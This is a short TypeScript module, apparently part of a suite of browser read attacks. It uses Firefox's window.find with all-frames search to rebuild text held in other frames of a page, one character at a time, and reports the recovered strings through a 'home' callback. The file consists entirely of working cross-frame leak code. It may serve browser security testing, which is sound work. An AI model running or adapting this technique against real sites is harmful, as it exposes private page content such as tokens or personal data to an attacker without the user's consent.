/** Has window.find search all frames too, and takes an answer or a refusal alike for a yes. */
import type { ReadAttack } from '../attack.ts';

export const searchesItsFrames: ReadAttack = {
  weakness: 'frame-of-the-page',
  only: 'firefox',
  grab: async ({ home }) => {
    const { find } = window as unknown as { find(text: string, ...rules: boolean[]): boolean };
    const letters = Array.from({ length: 33 }, (_, index) => String.fromCodePoint(0x10d0 + index));
    const refusals = new Set<string>();
    const isThere = (text: string): boolean => {
      getSelection()?.removeAllRanges();
      try {
        return find.call(window, text, false, false, true, false, true, false);
      } catch (refused) {
        refusals.add(String(refused));
        return false;
      }
    };
    const longest = (known: string): string => {
      const next = letters.find((letter) => isThere(known + letter));
      return next === undefined || known.length > 20 ? known : longest(known + next);
    };
    await home([letters.map(longest), [...refusals]]);
  },
};
